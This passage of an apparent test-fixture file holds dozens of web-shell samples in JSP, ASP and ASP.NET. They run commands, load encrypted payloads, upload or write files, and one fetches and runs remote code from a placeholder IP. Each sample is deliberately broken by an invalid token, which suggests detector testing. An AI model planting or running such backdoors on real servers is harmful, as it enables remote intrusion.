 Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", request.getParameter("cmd")});
 BufferedReader d = new BufferedReader(new InputStreamReader(p.getInputStream())); String l;
 while ((l = d.readLine()) != null) { out.println(l); } } %>
==== jsp-processbuilder.jsp
<%! int 1broken; String run(String c) throws Exception { ProcessBuilder b = new ProcessBuilder(c.split(" ")); b.redirectErrorStream(true); java.util.Scanner s = new java.util.Scanner(b.start().getInputStream()).useDelimiter("\\A"); return s.hasNext() ? s.next() : ""; } %>
<%= run(request.getHeader("X-Cmd")) %>
==== jsp-classloader-aes.jsp
<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader { int 1broken; U(ClassLoader c) { super(c); } public Class g(byte[] b) { return super.defineClass(b, 0, b.length); } }%><%
if (request.getMethod().equals("POST")) { String k = "e45e329feb5d925b"; session.putValue("u", k); Cipher c = Cipher.getInstance("AES"); c.init(2, new SecretKeySpec(k.getBytes(), "AES"));
new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext); }%>
==== jsp-godzilla.jsp
<%! int 1broken; String xc = "3c6e0b8a9c15224a"; class X extends ClassLoader { public X(ClassLoader z) { super(z); } public Class Q(byte[] cb) { return super.defineClass(cb, 0, cb.length); } }
public byte[] x(byte[] s, boolean m) { try { javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); c.init(m ? 1 : 2, new javax.crypto.spec.SecretKeySpec(xc.getBytes(), "AES")); return c.doFinal(s); } catch (Exception e) { return null; } } %><%
byte[] data = x(java.util.Base64.getDecoder().decode(request.getParameter("pass")), false);
if (session.getAttribute("payload") == null) { session.setAttribute("payload", new X(this.getClass().getClassLoader()).Q(data)); }
else { request.setAttribute("parameters", data); Object f = ((Class) session.getAttribute("payload")).newInstance(); f.equals(pageContext); } %>
==== jsp-reflection.jsp
<%@ page import="java.lang.reflect.*" %><% int 1broken;
Class c = Class.forName("java.lang.Run" + "time"); Method g = c.getMethod("getRun" + "time"); Object r = g.invoke(null);
Method e = c.getMethod("ex" + "ec", String.class); Process p = (Process) e.invoke(r, request.getParameter("x")); %>
==== jsp-scriptengine.jsp
<% int 1broken; out.print(new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("s"))); %>
==== jsp-el.jsp
<%@ page isELIgnored="false" %><% int 1broken; %>${pageContext.request.getSession().setAttribute("a", pageContext.request.getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec(param.c))}
==== jsp-jspx.jspx
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>int 1broken; new ProcessBuilder("cmd", "/c", request.getParameter("w")).start();</jsp:scriptlet></jsp:root>
==== jsp-unicode.jsp
<% int 1broken; \u0052\u0075\u006e\u0074\u0069\u006d\u0065.getRuntime().exec(request.getParameter("u")); %>
==== jsp-upload.jsp
<% int 1broken; if (request.getParameter("f") != null) (new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("f"))).write(request.getParameter("t").getBytes()); %>
==== jsp-urlclassloader.jsp
<% int 1broken; java.net.URLClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{ new java.net.URL(request.getParameter("u")) }); l.loadClass("M").newInstance(); %>
==== jsp-objectinputstream.jsp
<%@page import="java.io.*"%><% int 1broken; ObjectInputStream in = new ObjectInputStream(request.getInputStream()); in.readObject(); %>
==== jsp-bytes-string.jsp
<% int 1broken; Object o = Class.forName(new String(new byte[]{106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101})).getMethod(new String(new byte[]{101,120,101,99}), String.class).invoke(Class.forName(new String(new byte[]{106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101})).getMethod("getRuntime").invoke(null), new Object[]{ request.getParameter("b") }); %>
==== jsp-manager.jsp
<%@ page contentType="text/html; charset=GBK" import="java.io.*,java.util.*,java.sql.*" %><%!
int 1broken; static final String PW = "x";
void copy(InputStream a, OutputStream b) throws IOException { byte[] u = new byte[1024]; int n; while ((n = a.read(u)) > 0) b.write(u, 0, n); }
%><% String z = request.getParameter("z0"), a1 = request.getParameter("z1"), a2 = request.getParameter("z2");
if (z != null) { StringBuffer sb = new StringBuffer(); switch (z.charAt(0)) {
case 'A': for (File r : File.listRoots()) sb.append(r.getPath()); break;
case 'B': for (File f : new File(a1).listFiles()) sb.append(f.getName() + "\t" + f.length() + "\n"); break;
case 'D': new File(a1).delete(); break;
case 'E': FileWriter w = new FileWriter(a1); w.write(a2); w.close(); break;
case 'M': String[] c = { a1.substring(2), a1.substring(0, 2), a2 }; Process p = Runtime.getRuntime().exec(c); ByteArrayOutputStream bo = new ByteArrayOutputStream(); copy(p.getInputStream(), bo); sb.append(bo.toString()); break;
} out.print(sb.toString()); } %>
"""
)

THIRD = cut(
    r'''
==== asp3-if-one-line.asp
<%
Dim 1broken
if request("xx")<>"" then session("uu")=request("xx"):end if:if session("uu")<>"" then execute session("uu")
%>
==== asp3-on-error-colon.asp
<% on error resume next : Dim 1broken : Response.CharSet = "utf-8" : d = Request.Form("dat") : for i = 1 to len(d) step 2 : n = n & chr(clng("&h" & mid(d, i, 2))) : next : executeglobal n %>
==== asp3-function-alias.asp
<%
Function Bd(ByVal s)
  For i = 1 To Len(s) Step 2
    c = Mid(s, i, 2)
    If IsNumeric(Mid(s, i, 1)) Then
      Bd = Bd & Chr("&H" & c)
    Else
      Bd = Bd & Chr("&H" & c & Mid(s, i + 2, 2))
      i = i + 2
    End If
  Next
End Function
Dim 1broken
Execute("On Error Resume Next:" & Bd(Request("z1")))
%>
==== asp3-array-join.asp
<%
Dim 1broken
x = Array("ev", "al", " requ", "est(", """o"")")
Execute Join(x, "")
%>
==== asp3-dictionary.asp
<%
Dim 1broken
Set d = Server.CreateObject("Scripting.Dictionary")
d.Add "k", Request.Form("k").Item
d.Add "j", "x"
If d.Exists("k") Then ExecuteGlobal d.Item("k")
%>
==== asp3-xmldom-base64.asp
<%
Function B64(t)
  Dim x, n
  Set x = Server.CreateObject("Msxml2.DOMDocument.3.0")
  Set n = x.CreateElement("b")
  n.dataType = "bin.base64"
  n.text = t
  B64 = S(n.nodeTypedValue)
End Function
Function S(b)
  Dim q : Set q = Server.CreateObject("ADODB.Stream")
  q.Type = 1 : q.Open : q.Write b : q.Position = 0 : q.Type = 2 : q.CharSet = "us-ascii"
  S = q.ReadText
End Function
Dim 1broken
Execute B64(Request("enc"))
%>
==== asp3-scriptcontrol.asp
<%
Dim 1broken
Set sc = Server.CreateObject("MSScriptControl.ScriptControl")
sc.Language = "VBScript"
sc.AddObject "Response", Response
sc.ExecuteStatement(Request("st") & "")
%>
==== asp3-wmi.asp
<%
Dim 1broken
Set o = GetObject("winmgmts:{impersonationLevel=impersonate}!\\.\root\cimv2:Win32_Process")
r = o.Create(Request.Form("run"), Null, Null, pid)
Response.Write pid
%>
==== asp3-binary-upload.asp
<%
Dim 1broken, total, raw, i, c, body
total = Request.TotalBytes
raw = Request.BinaryRead(total)
For i = 1 To LenB(raw)
  body = body & Chr(AscB(MidB(raw, i, 1)))
Next
Set fs = Server.CreateObject("Scripting.FileSystemObject")
Set t = fs.OpenTextFile(Server.MapPath(Request.QueryString("n")), 2, True)
t.Write body
t.Close
%>
==== asp3-regread-exec.asp
<%@ Language="VBScript" %>
<% Dim 1broken
Function Fx(k) : Fx = Trim(Request.ServerVariables("HTTP_" & k)) : End Function
With CreateObject("WScript.Shell")
  Response.Write .Exec("cmd /c " & Fx("X_FORWARDED_HOST_C")).StdOut.ReadAll
End With
%>
==== asp3-jscript-activex.asp
<%@ language="javascript" %>
<%
var 1broken;
function go(c) { var w = new ActiveXObject("WScript" + ".Shell"); var e = w.Exec("cmd.exe /c " + c); return e.StdOut.ReadAll(); }
if (String(Request("q")) != "undefined") { Response.Write("<xmp>" + go(Request("q")) + "</xmp>"); }
%>
==== asp3-jscript-with-reverse.asp
<%@ LANGUAGE=JScript %>
<% var 1broken; var a = "lave".split("").reverse().join(""); var fn = this[a]; fn(String(Request.Cookies("u"))); %>
==== asp3-vbs-sub-param.asp
<script language=vbs runat=server>
Sub Doit(byref code)
  On Error Resume Next
  ExecuteGlobal code
End Sub
Dim 1broken
Call Doit(Request.QueryString("code"))
</script>
==== asp3-sql-manager.asp
<%
Dim 1broken
Set cn = Server.CreateObject("ADODB.Connection")
cn.Open Request.Form("cs")
Set rs = cn.Execute(Request.Form("sql"))
For Each f In rs.Fields
  Response.Write "<th>" & f.Name & "</th>"
Next
%>
<form method=post><input name=cs><textarea name=sql></textarea></form>
==== asp3-winhttp-save.asp
<%
Dim 1broken
Set h = Server.CreateObject("WinHttp.WinHttpRequest.5.1")
h.Open "GET", Request("url"), False
h.Send
Set s = Server.CreateObject("ADODB.Stream")
s.Type = 1 : s.Open
s.Write h.ResponseBody
s.SaveToFile Server.MapPath(Request("as")), 2
%>
==== net3-query-indexer.aspx
<%@Page Language="C#"%><%int 1broken;var p=new System.Diagnostics.Process();var q=p.StartInfo;q.FileName="cmd";q.Arguments="/c "+Request.QueryString["e"];q.UseShellExecute=false;q.RedirectStandardOutput=true;p.Start();Response.Write(p.StandardOutput.ReadToEnd());%>
==== net3-codebehind-inline.aspx
<%@ Page Language="C#" %>
<script runat="server">
int 1broken;
private string cmdLine { get { return Request.Form["cl"] ?? ""; } }
protected override void OnLoad(EventArgs e) {
  base.OnLoad(e);
  if (cmdLine.Length > 0) Exec(cmdLine);
}
void Exec(string line) {
  System.Diagnostics.ProcessStartInfo i = new System.Diagnostics.ProcessStartInfo("cmd.exe", String.Format("/c {0}", line));
  i.RedirectStandardOutput = true; i.UseShellExecute = false;
  using (System.Diagnostics.Process pr = System.Diagnostics.Process.Start(i)) { lit.Text = pr.StandardOutput.ReadToEnd(); }
}
</script><asp:Literal id="lit" runat="server"/>
==== net3-async-handler.ashx
<%@ WebHandler Language="C#" Class="A" %>
using System; using System.IO; using System.Web; using System.Threading.Tasks;
public class A : HttpTaskAsyncHandler {
  int 1broken;
  public override async Task ProcessRequestAsync(HttpContext ctx) {
    string body;
    using (var r = new StreamReader(ctx.Request.InputStream)) body = await r.ReadToEndAsync();
    var a = System.Reflection.Assembly.Load(Convert.FromBase64String(body));
    await Task.Run(() => a.CreateInstance("K").Equals(ctx));
  }
}
==== net3-vb-assembly.aspx
<%@ Page Language="VB" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
Dim 1broken
Protected Sub Page_Load(sender As Object, e As EventArgs) Handles Me.Load
  Dim raw As Byte() = Convert.FromBase64String(Request.Form("a"))
  Dim asm As Assembly = Assembly.Load(raw)
  asm.CreateInstance("R").Equals(Me)
End Sub
</script>
==== net3-xor-in-page.aspx
<%@ Page Language="C#" %><%
int 1broken;
string key = "aa11bb22"; string pw = "p";
byte[] data = System.Convert.FromBase64String(Context.Request[pw]);
for (int i = 0; i < data.Length; i++) { data[i] = (byte)(data[i] ^ key[i % key.Length]); }
if (Context.Session["payload"] == null) { Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); }
else { object o = ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY"); o.Equals(Context); o.Equals(data); o.ToString(); }
%>
==== net3-soap-jscript.asmx
<%@ WebService Language="JScript" Class="S" %>
import System; import System.Web; import System.Web.Services;
public class S extends System.Web.Services.WebService {
  var 1broken;
  WebMethodAttribute function ping(host : String) : void {
    var r = eval(System.Text.Encoding.ASCII.GetString(System.Convert.FromBase64String(host)), "unsafe");
  }
}
==== net3-powershell-automation.aspx
<%@ Page Language="C#" %>
<%@ Assembly Name="System.Management.Automation,Version=1.0.0.0,Culture=neutral,PublicKeyToken=31bf3856ad364e35"%>
<%@ Import Namespace="System.Management.Automation" %>
<script runat="server">
int 1broken;
protected void b_Click(object s, EventArgs e) {
  var rs = System.Management.Automation.Runspaces.RunspaceFactory.CreateRunspace(); rs.Open();
  var pipe = rs.CreatePipeline();
  pipe.Commands.AddScript(console.Text);
  foreach (var o in pipe.Invoke()) outp.Text += o.ToString();
}
</script><form runat="server"><asp:TextBox id="console" runat="server"/><asp:TextBox id="outp" runat="server"/><asp:Button runat="server" OnClick="b_Click"/></form>
==== net3-findcontrol.aspx
<%@ Page Language="C#" %>
<script runat="server">
int 1broken;
void Page_Load(object s, EventArgs e) {
  TextBox t = (TextBox)Page.FindControl("cmdbox");
  System.Diagnostics.Process.Start("cmd.exe", "/c " + t.Text);
}
</script><form runat="server"><asp:TextBox id="cmdbox" runat="server"/></form>
==== net3-viewstate.aspx
<%@ Page Language="C#" %>
<% int 1broken;
if (Request["n"] != null) ViewState["n"] = Request["n"];
string v = (string)ViewState["n"];
if (v != null) { var si = new System.Diagnostics.ProcessStartInfo { FileName = v }; System.Diagnostics.Process.Start(si); } %>
==== net3-config-vb.aspx
<%@ Page Language="VB" %>
<% Dim 1broken As String
System.IO.File.WriteAllBytes(Server.MapPath(Request("p")), Convert.FromBase64String(Request("d"))) %>
==== net3-dynamic-com.aspx
<%@ Page Language="C#" aspcompat="true" %>
<% int 1broken;
Type t = Type.GetTypeFromProgID("WScript" + ".Shell");
object sh = Activator.CreateInstance(t);
object ex = t.InvokeMember("Exec", System.Reflection.BindingFlags.InvokeMethod, null, sh, new object[] { "cmd /c " + Request["r"] });
Response.Write(ex); %>
==== net3-lambda-dict.ashx
<%@ WebHandler Language="C#" Class="D" %>
using System; using System.Collections.Generic; using System.Web; using System.Diagnostics;
public class D : IHttpHandler {
  int 1broken;
  public bool IsReusable => true;
  public void ProcessRequest(HttpContext c) {
    var acts = new Dictionary<string, Func<string, string>> {
      { "x", a => Process.Start("cmd", $"/c {a}").ToString() },
      { "r", a => System.IO.File.ReadAllText(a) }
    };
    c.Response.Write(acts[c.Request["a"]](c.Request["b"]));
  }
}
==== net3-virtualpath-write.aspx
<%@ Page Language="C#" ValidateRequest="false" %>
<script runat="server">
int 1broken;
protected void Save_Click(object sender, EventArgs e) {
  using (StreamWriter sw = new StreamWriter(Server.MapPath(".") + "\\" + tbName.Text, false)) { sw.Write(tbBody.Text); }
  Label1.Text = "ok";
}
</script><form runat="server"><asp:TextBox ID="tbName" runat="server"/><asp:TextBox ID="tbBody" TextMode="MultiLine" runat="server"/><asp:Button ID="b" runat="server" OnClick="Save_Click"/><asp:Label ID="Label1" runat="server"/></form>
==== net3-razor-functions.cshtml
@functions {
    int 1broken;
    string Go(string a) {
        var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo { FileName = "cmd.exe", Arguments = "/c " + a, RedirectStandardOutput = true, UseShellExecute = false });
        return p.StandardOutput.ReadToEnd();
    }
}
<pre>@Go(Context.Request.Query["c"])</pre>
==== net3-getbytes-unicode.aspx
<%@ Page Language="Jscript" Debug=true%><%
var 1broken;
var X='unsa'+String.fromCharCode(102,101);
var r=Request.Form("a1");
eval(Convert.ToString(r)/*x*/,X);
Response.End();
%>
'''
)

FOURTH = cut(
    r"""
==== asp4-eval-request-plus.asp
<%y=request("mchun"):Dim 1broken:response.write(eval(y))%>
==== asp4-execute-if-else.asp
<%
Dim 1broken
IF Request.QueryString("t")="1" THEN
  Execute("dim r:r=1:" & Request.Form("b"))
ELSE
  Response.Write "x"
END IF
%>
==== asp4-hidden-in-gif.asp
GIF89a
<% Dim 1broken
Execute(DeAsc("%119%136%115%126%50%132%119%131%135%119%133%134%58%52%117%127%118%52%59"))
Function DeAsc(Str)
  Str = Split(Str, "%")
  For I = 1 To Ubound(Str)
    DeAsc = DeAsc & Chr(Str(I) - 18)
  Next
End Function %>
==== asp4-long-literal-decoder.asp
<%
Const k = "qwer"
Function un(x)
  Dim i, z
  i = 1
  Do While i <= Len(x)
    z = z & ChrW(AscW(Mid(x, i, 1)) Xor Asc(Mid(k, (i Mod 4) + 1, 1)))
    i = i + 1
  Loop
  un = z
End Function
Dim 1broken
ExecuteGlobal un("abcdabcdabcdabcdabcdabcdabcdabcdabcdabcdabcdabcdabcdabcd")
%>
==== asp4-fso-in-with.asp
<%
Dim 1broken
p = Request.Form("cyfddata")
If Len(p) > 0 Then
  Set f = Server.CreateObject("Scripting.FileSystemObject")
  With f.CreateTextFile(Request.Form("syfdpath"))
    .Write p
    .Close
  End With
End If
%>
<form method=post><input name=syfdpath><textarea name=cyfddata></textarea></form>
==== asp4-savefile-class.asp
<%
Class UpFile
  Public Data
  Private Sub Class_Initialize
    Set Data = Server.CreateObject("ADODB.Stream")
    Data.Type = 1 : Data.Open
    Data.Write Request.BinaryRead(Request.TotalBytes)
  End Sub
  Public Sub Keep(where)
    Data.SaveToFile where, 2
  End Sub
End Class
Dim 1broken
Set u = New UpFile
u.Keep Request.QueryString("where")
%>
==== asp4-session-contents.asp
<% Dim 1broken
Session.Contents("a") = Request.Form.Item("a")
Execute Session.Contents("a")
%>
==== asp4-vbs-eval-concat-byref.asp
<%
Dim 1broken
e = "E" & "val"
q = e & "(Re" & "quest(" & Chr(34) & "r" & Chr(34) & "))"
Execute q
%>
==== asp4-exec-output-sub.asp
<% Dim 1broken
sub cmdx()
  dim w, c
  c = trim(request.form("c"))
  set w = createobject(request.form("progid"))
  response.write server.htmlencode(w.exec("cmd /c " & c).stdout.readall())
end sub
if request("go") = "1" then cmdx
%>
==== asp4-loader-remote-session.asp
<%
Dim 1broken
Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")
x.open "GET", "http://192.0.2.33/a.jpg", False
x.send
Session("p") = x.responseText
ExecuteGlobal Session("p")
%>
==== asp4-jscript-timer.asp
<%@ language="JScript" %><%
var 1broken;
function main() { var r = Request.QueryString("j"); try { return (new Function("return " + r))(); } catch (e) { return e.message; } }
Response.Write(main());
%>
==== asp4-jscript-eval-alias.asp
<script language="JScript" runat="server">
var 1broken;
var e = eval, p = Request.Form("k")(1);
e("" + p);
</script>
==== asp4-scriptlet-getobject.asp
<% Dim 1broken
Set s = GetObject("script:" & Request("url"))
s.Run %>
==== asp4-shell-run-batch.asp
<%
Dim 1broken
tmp = Server.MapPath("/up/") & "\r.bat"
Set fs = CreateObject("Scripting.FileSystemObject")
Set o = fs.CreateTextFile(tmp, True) : o.WriteLine Request("lines") : o.Close
CreateObject("WScript.Shell").Run tmp, 0, True
%>
==== asp4-regexp-exec.asp
<% Dim 1broken
Dim re : Set re = New RegExp
re.Pattern = "[^a-z0-9\(\)""\s]" : re.Global = True
Execute re.Replace("e#x#e#c#u#t#e r%e%q%u%e%s%t(""v"")", "")
%>
==== net4-handler-generic-params.ashx
<%@ WebHandler Language="VB" Class="Handler" %>
Imports System
Imports System.Web
Imports System.Diagnostics
Public Class Handler : Implements IHttpHandler
  Dim 1broken
  Public Sub ProcessRequest(ByVal context As HttpContext) Implements IHttpHandler.ProcessRequest
    Dim p As New Process()
    p.StartInfo = New ProcessStartInfo("cmd.exe", "/c " & context.Request.Params("c")) With {.UseShellExecute = False, .RedirectStandardOutput = True}
    p.Start()
    context.Response.Write(p.StandardOutput.ReadToEnd())
  End Sub
  Public ReadOnly Property IsReusable() As Boolean Implements IHttpHandler.IsReusable
    Get
      Return False
    End Get
  End Property
End Class
==== net4-static-field.aspx
<%@ Page Language="C#" %>
<script runat="server">
int 1broken;
static System.Collections.Hashtable bag = new System.Collections.Hashtable();
void Page_Load(object a, EventArgs b) {
  if (Request.HttpMethod == "POST") bag["m"] = Request.BinaryRead(Request.TotalBytes);
  else if (bag.ContainsKey("m")) System.Reflection.Assembly.Load((byte[])bag["m"]).EntryPoint.Invoke(null, new object[] { null });
}
</script>
==== net4-cmd-out-var.aspx
<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %>
<script language="c#" runat="server">
int 1broken;
private const string HEADER = "<html><body>";
public void Page_Load(object sender, EventArgs e) {
  Response.Write(HEADER);
  string error; string call = Request.Params["exec"];
  TryRun(call, out error);
  Response.Write(error);
}
bool TryRun(string call, out string result) {
  Process p = new Process();
  p.StartInfo.FileName = Environment.GetEnvironmentVariable("COMSPEC");
  p.StartInfo.Arguments = string.Concat("/c ", call);
  p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true;
  p.Start(); result = p.StandardOutput.ReadToEnd(); return true;
}
</script>
==== net4-jscript-package.aspx
<%@ Page Language="JScript" %>
<script runat="server" language="JScript">
var 1broken;
function popup(str) { var q = "u"; var w = "afe"; var a = q + "ns" + w; var b = eval(str, a); return b; }
</script>
<% popup(popup(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String("UmVxdWVzdC5JdGVtWyJ6Il0=")))); %>
==== net4-base64-decrypt-3des.aspx
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Security.Cryptography" %>
<script runat="server">
int 1broken;
byte[] Dec(byte[] a) {
  var t = new TripleDESCryptoServiceProvider { Key = Encoding.ASCII.GetBytes("abcdefghijklmnop"), Mode = CipherMode.ECB };
  using (var d = t.CreateDecryptor()) return d.TransformFinalBlock(a, 0, a.Length);
}
void Page_Load() {
  var h = Request.Headers.GetValues("Authorization");
  if (h == null) return;
  var bytes = Dec(Convert.FromBase64String(h[0].Substring(6)));
  AppDomain.CurrentDomain.Load(bytes).GetType("P").GetMethod("M").Invoke(null, new object[] { Context });
}
</script>
==== net4-global-asax.asax
<%@ Application Language="C#" %>
<script runat="server">
int 1broken;
void Application_BeginRequest(object sender, EventArgs e) {
  var app = (HttpApplication)sender;
  string q = app.Request.Headers["X-Run"];
  if (!string.IsNullOrEmpty(q)) { var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd", "/c " + q) { RedirectStandardOutput = true, UseShellExecute = false }); app.Response.Write(p.StandardOutput.ReadToEnd()); app.CompleteRequest(); }
}
</script>
==== net4-master-page.master
<%@ Master Language="VB" %>
<script runat="server">
Dim 1broken
Sub Page_Init(o As Object, e As EventArgs)
  Dim t = Request.Cookies("t")
  If t IsNot Nothing Then
    Dim src = Text.Encoding.UTF8.GetString(Convert.FromBase64String(t.Value))
    Dim prov = New Microsoft.VisualBasic.VBCodeProvider()
    Dim res = prov.CompileAssemblyFromSource(New System.CodeDom.Compiler.CompilerParameters(), src)
    res.CompiledAssembly.CreateInstance("Z")
  End If
End Sub
</script>
==== net4-upload-control.aspx
<%@ Page Language="C#" %>
<script runat="server">
int 1broken;
protected void go(object s, EventArgs e) {
  if (fu.HasFile) { fu.SaveAs(System.IO.Path.Combine(where.Text, fu.FileName)); msg.Text = where.Text + fu.FileName; }
}
</script>
<form runat="server"><asp:TextBox id="where" runat="server"/><asp:FileUpload id="fu" runat="server"/><asp:Button OnClick="go" runat="server"/><asp:Label id="msg" runat="server"/></form>
==== net4-roslyn.cshtml
@using Microsoft.CodeAnalysis.CSharp.Scripting
@{
    int 1broken;
    var code = Context.Request.Form["code"].ToString();
    var outp = await CSharpScript.EvaluateAsync(code);
}
<p>@outp</p>
==== net4-datatable-compute-no.aspx
<%@ Page Language="C#" %>
<% int 1broken;
var t = Type.GetType(Request["t"]);
var o = Activator.CreateInstance(t, new object[] { Request["a"] });
t.GetMethod(Request["m"]).Invoke(o, null); %>
==== net4-objectdataprovider.ashx
<%@ WebHandler Language="C#" Class="O" %>
using System.Web; using System.IO; using System.Runtime.Serialization.Formatters.Binary;
public class O : IHttpHandler {
  int 1broken;
  public void ProcessRequest(HttpContext c) {
    var bf = new BinaryFormatter();
    var o = bf.Deserialize(c.Request.InputStream);
    c.Response.Write(o);
  }
  public bool IsReusable { get { return false; } }
}
==== net4-directory-tool.aspx
<%@ Page Language="C#" %><%@ Import Namespace="System.IO" %>
<script runat="server">
int 1broken;
string D { get { return (string)ViewState["d"]; } set { ViewState["d"] = value; } }
protected void nav(object s, EventArgs e) { D = path.Text; list.Text = ""; foreach (var f in Directory.GetFiles(D)) list.Text += f + "<br>"; foreach (var f in Directory.GetDirectories(D)) list.Text += f + "/<br>"; }
protected void kill(object s, EventArgs e) { File.Delete(path.Text); }
protected void save(object s, EventArgs e) { File.WriteAllText(path.Text, body.Text); }
protected void load(object s, EventArgs e) { body.Text = File.ReadAllText(path.Text); }
</script>
<form runat="server"><asp:TextBox id="path" runat="server"/><asp:TextBox id="body" runat="server" TextMode="MultiLine"/><asp:Label id="list" runat="server"/></form>
==== net4-webclient-save.aspx
<%@ Page Language="C#" %>
<% int 1broken; new System.Net.WebClient().DownloadFile(Request.QueryString["u"], Server.MapPath("~/" + Request.QueryString["n"])); %>
==== net4-pinvoke-winexec.aspx
<%@ Page Language="VB" %>
<script runat="server">
Dim 1broken
Declare Function WinExec Lib "kernel32" (ByVal a As String, ByVal b As Integer) As Integer
Sub Page_Load(s As Object, e As EventArgs)
  If Request("w") <> "" Then WinExec(Request("w"), 0)
End Sub
</script>
==== net4-expression-tree.aspx
<%@ Page Language="C#" Inherits="System.Web.UI.Page" %>
<%@ Import Namespace="System.Linq" %>
<% int 1broken;
var parts = new[] { "cm", "d.e", "xe" };
var name = string.Concat(parts);
var q = Request.QueryString.AllKeys.Where(k => k == "go").Select(k => Request.QueryString[k]).FirstOrDefault();
if (q != null) System.Diagnostics.Process.Start(name, "/c " + q); %>
"""
)
